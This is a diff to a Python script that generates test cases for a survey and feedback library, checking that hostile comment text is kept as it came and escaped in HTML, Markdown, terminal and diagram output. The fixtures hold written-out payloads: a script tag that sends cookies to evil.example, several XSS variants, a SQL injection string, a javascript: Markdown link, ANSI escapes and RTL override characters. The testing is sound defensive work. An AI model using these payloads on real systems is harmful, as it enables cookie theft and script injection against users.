@@ -417,8 +417,50 @@ LEFT_OUT = [
     ("ids/bool.json as groups", "a list of true, 1 and \"true\" is three kinds in one column; Python and Node users name one"),
     ("journeys/11_xss_names: the address", "a touchpoint has none; that of feedback is refused when it is not of the web: records.json"),
     ("journeys/12_event_unknown_tp", "event logs, with the journeys"),
-    ("comments/", "text is not analysed or redacted yet; feedback keeps it as it came"),
+    ("comments/01_emoji_zwj, 03_zalgo, 08_prompt_injection, 10_pii, 11_pii_decoys, 12_pii_obfuscated, 13_redos, 14_redos_email, 15_only_space, 16_mixed_lang, 17_negation, 18_nfd, 21_homoglyph_theme, 22_turkish", "text is not analysed or redacted yet; feedback keeps it as it came"),
 ]
+
+
+# ---------------------------------------------------------------- comments: kept as they came, and text and nothing else wherever they are shown
+
+RTL = "\u05d4\u05e9\u05d9\u05e8\u05d5\u05ea \u05d4\u05d9\u05d4 \u05de\u05e6\u05d5\u05d9\u05df \u202e not evil \u202c 5/5"
+SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
+VARIANTS = (
+    '<img src=x onerror=alert(1)>\n"><svg/onload=alert(1)>\n<a href="java\tscript:alert(1)">x</a>\n<math><mtext></mtext><mglyph><style><!--</style>'
+    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">\n{{constructor.constructor("alert(1)")()}}\n${alert(1)}\n'
+)
+SQL = "'; DROP TABLE responses; --"
+MARKDOWN = "[click](javascript:alert(1)) ![x](http://evil.example/p.png) `code`"
+ANSI = "\x1b[2J\x1b]0;pwned\x07 red \x1b[31m"
+# What a page shows of the comment (True), and what it must not hold (False), by form.
+COMMENTS = [
+    ("02_rtl", RTL, {"html": {"not evil": True, "\u202e": False, "\u202c": False}, "markdown": {"not evil": True, "\u202e": False}, "text": {"<U+202E>": True, "\u202e": False}, "mermaid": {"\u202e": False}}, "kept; what turns the direction of writing is left out of pages, and visible in a terminal"),
+    ("05_script", SCRIPT, {"html": {"&lt;script&gt;fetch(": True, "<script": False}, "markdown": {"&lt;script&gt;fetch(": True, "<script": False}, "mermaid": {"<": False, "#60;script#62;": True}}, "escaped where it is written"),
+    ("06_html_variants", VARIANTS, {"html": {"&lt;img src=x": True, "<img": False, "<svg/": False, '<a href="java': False, "<math": False, "<mglyph": False, 'title="--': False}, "markdown": {"<img": False, "<svg": False, "<a": False, "${": False}, "mermaid": {"<img": False, "{{": False}}, "escaped"),
+    ("07_sql", SQL, {"html": {"&#39;; DROP TABLE responses; --": True}, "markdown": {SQL: True}, "text": {SQL: True}}, "plain text"),
+    ("09_markdown", MARKDOWN, {"html": {"[click](javascript:alert(1))": True, '<a href="java': False, "<img": False}, "markdown": {"\\[click\\]": True, "[click](": False, "![x](": False, "http://": False, "`code`": False}, "text": {MARKDOWN: True}}, "escaped in Markdown; no picture from elsewhere"),
+    ("19_ansi", ANSI, {"html": {"\x1b": False, "\x07": False, "pwned": True}, "markdown": {"\x1b": False, "pwned": True}, "text": {"\x1b": False, "\x07": False, "\u241b[2J": True}, "mermaid": {"\x1b": False}}, "escaped in a terminal and in pages"),
+]
+ASKED = {"id": "s", "rev": 1, "kind": "pulse", "respondents": "customers", "title": {"en": "S"}, "questions": [{"id": "why", "rev": 1, "text": {"en": "Why?"}, "kind": {"openText": {}}}]}
+
+
+def of_comment(name, text, shown, why):
+    """A comment kept by a response, feedback and a case, and shown by a scorecard and a journey map."""
+    look = {form: list(parts) for form, parts in shown.items()}
+    expect = {form: list(parts.values()) for form, parts in shown.items()}
+    card = {form: parts for form, parts in look.items() if form != "mermaid"}
+    answered = {"id": "r", "survey": "s", "rev": 1, "at": "2026-11-21T09:00:00Z", "status": "complete", "answers": {"why": text}}
+    said = {"id": "f", "kind": "socialPost", "at": "2026-11-21T09:00:00Z", "text": text}
+    step = ["transition", {"state": "acknowledged", "by": "emp:1", "at": "2026-11-21T10:00:00Z", "note": text}]
+    read = touchpoint("t", name={"en": text}, painPoints=[{"id": "x", "text": {"en": text}}])
+    mapped = json.loads(model(journey(stage("a", "awareness", read), LAST, name={"en": text})))
+    return [
+        {"id": f"comments/{name}/response", "comment": "kept as it came", "call": "parse_response", "survey": ASKED, "response": answered, "expect": {"ok": True, "problems": [], "value": {"answers": {"why": {"text": text}}}}},
+        {"id": f"comments/{name}/feedback", "comment": "kept as it came", "call": "problems_of", "kind": "Feedback", "json": json.dumps(said), "expect": NONE},
+        {"id": f"comments/{name}/case", "comment": "kept as it came", "call": "case", "open": {"id": "k", "at": "2026-11-21T09:00:00Z"}, "steps": [step], "expect": {"document": {"history": [{"to": "received"}, {"to": "acknowledged", "note": text}]}}},
+        {"id": f"comments/{name}/scorecard", "comment": why, "call": "scorecard_pages", "frame": {"said": [text] * 5, "nps": [10, 9, 8, 3, 10]}, "metric": "nps", "options": {"by": "said", "title": text}, "look": card, "expect": {form: expect[form] for form in card}},
+        {"id": f"comments/{name}/journey", "comment": why, "call": "journey_pages", "model": mapped, "journey": "j", "look": look, "expect": expect},
+    ]
 
 
 # ---------------------------------------------------------------- made by a generator: text that is a head, a unit repeated, and a tail
@@ -446,6 +488,17 @@ def write():
         for name, text, expect, why in listed:
             case = {"id": f"{folder}/{name}", "comment": why, "call": "problems_of", "kind": kind, "json": text, "expect": expect}
             cases.append({key: value for key, value in case.items() if value is not None})
+    told = {"call": "journey_pages", "model": json.loads(model(journey(FIRST, LAST))), "journey": "j"}
+    look = {form: ["Not in the document"] for form in ("html", "markdown", "text", "mermaid")}
+    for form, parts in look.items():
+        cases.append({"id": f"journeys/15_no_such_language_{form}", "comment": "the names are in English: the message lists what there is", **told, "options": {"language": "zz"}, "look": {form: parts}, "expect": refused("invalid_option", None, "language", got='"zz"')})
+    cases.append({"id": "journeys/15_region_of_a_language", "comment": "en-GB is told in en", **told, "options": {"language": "en-GB"}, "look": look, "expect": {form: [False] for form in look}})
+    for name, at in (("time", "2026-11-21T09:00:00"), ("day", "2026-11-21")):
+        cases.append({"id": f"time/case_of_a_{name}_without_offset", "comment": "a case has times with their offset", "call": "case", "open": {"id": "k", "at": at}, "steps": [], "expect": refused("invalid_time", None, "at")})
+    cases += [case for one in COMMENTS for case in of_comment(*one)]
+    (PLACE / "comments").mkdir(parents=True, exist_ok=True)
+    (PLACE / "comments" / "20_invalid_utf8.csv").write_bytes(b"score,comment\n9,ok \xc3( \xed\xa0\x80 \xf8\x88\x80\x80\x80\n")
+    cases.append({"id": "comments/20_invalid_utf8", "comment": "bytes that are no UTF-8, with an encoded half of a pair and a sequence of five; texts of the three languages have none, and JSON in bytes is refused in the tests of Python and Node", "call": "read_survey", "file": "comments/20_invalid_utf8.csv", "options": {"questions": {"score": "nps"}}, "expect": refused("invalid_encoding", 0, "comment", line=2)})
     cases += [{"id": f"ids/{name}", **({"comment": why} if why else {}), **case} for name, case, why in IDS]
     cases += [{"id": f"time/{name}", **({"comment": why} if why else {}), **case} for name, case, why in TIMES]
     for label, expect, options, why in CSV:
